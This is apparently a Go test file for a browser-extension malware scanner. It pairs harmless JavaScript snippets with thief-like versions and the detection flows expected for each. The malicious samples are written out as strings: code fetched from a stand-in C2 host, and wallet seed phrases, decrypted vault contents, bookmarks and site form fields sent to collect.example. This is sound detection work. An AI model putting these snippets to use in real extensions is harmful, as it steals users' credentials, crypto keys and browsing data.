@@ -1,0 +1,30 @@
+package flow
+
+import (
+	"testing"
+
+	"github.com/extwatch/extwatch/signatures/behavior"
+)
+
+// Each row of what honest tools do stands beside what a thief would do in its place.
+func TestFlowsOfHonestTools(t *testing.T) {
+	const send = `fetch("https://collect.example/", {method: "POST", body: `
+	for _, c := range []flowCase{
+		{"module that is given nothing", behavior.Background, `fetch("https://c2.example/m.wasm").then(WebAssembly.instantiateStreaming)`, nil},
+		{"module of an address that is given", behavior.Background, `function start(path, imports) { return WebAssembly.instantiateStreaming(fetch(path, {credentials: "same-origin"}), imports) } start(self.path, {env: {now: Date.now}})`, nil},
+		{"module of a server", behavior.Background, `WebAssembly.instantiateStreaming(fetch("https://c2.example/m.wasm"), {env: {send: (t) => fetch(t)}})`, []string{"network(c2.example) > eval"}},
+		{"attribute in a page of the extension", behavior.Popup, `fetch("https://c2.example/").then((r) => r.json()).then((j) => { for (const k of self.names) document.body.setAttribute(k, j[k]) })`, nil},
+		{"attribute in a site's page", behavior.Content, `fetch("https://c2.example/").then((r) => r.json()).then((j) => { for (const k of self.names) document.body.setAttribute(k, j[k]) })`, []string{"network(c2.example) > on_attribute"}},
+		{"coins of the holder of a key", behavior.Background, `async function pay(text, to) { const keys = await self.vault.open(text.mnemonic); return self.chain.transfer(keys, to, 5) }`, nil},
+		{"coins to what is made of a key", behavior.Background, `async function pay(text, me) { const to = await self.words.encode(text.mnemonic); return self.chain.transfer(me, to, 5) }`, []string{"seed_input(mnemonic) > wallet_request"}},
+		{"what a password opens", behavior.Popup, `document.querySelector("#password").onchange = async (e) => { const p = document.querySelector("#password").value; const key = await crypto.subtle.importKey("raw", p, "AES-GCM", false, ["decrypt"]); const t = await crypto.subtle.decrypt({name: "AES-GCM"}, key, self.box); ` + send + `t}) }`, []string{"decrypted > fetch > collect.example"}},
+		{"address of a key", behavior.Popup, `const made = self.library.fromMnemonic(document.querySelector("#mnemonic").value); ` + send + `made.address})`, nil},
+		{"the words under that name", behavior.Popup, `const made = {address: document.querySelector("#mnemonic").value}; const copy = JSON.parse(JSON.stringify(made)); ` + send + `copy.address})`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
+		{"whether one address is a bookmark", behavior.Background, `chrome.bookmarks.search({url: self.address}, (l) => ` + send + `l[0].url}))`, nil},
+		{"bookmarks", behavior.Background, `chrome.bookmarks.search({}, (l) => ` + send + `l[0].url}))`, []string{"history > fetch > collect.example"}},
+		{"field of a server's form", behavior.Background, `fetch("https://archive.example/").then((r) => r.text()).then((t) => { const d = new DOMParser().parseFromString(t, "text/html"); ` + send + `d.querySelector("input[name=id]").value}) })`, nil},
+		{"field of a site's form", behavior.Content, send + `document.querySelector("input[name=id]").value})`, []string{"form_data(input[name=id]) > fetch > collect.example"}},
+	} {
+		t.Run(c.name, c.run)
+	}
+}
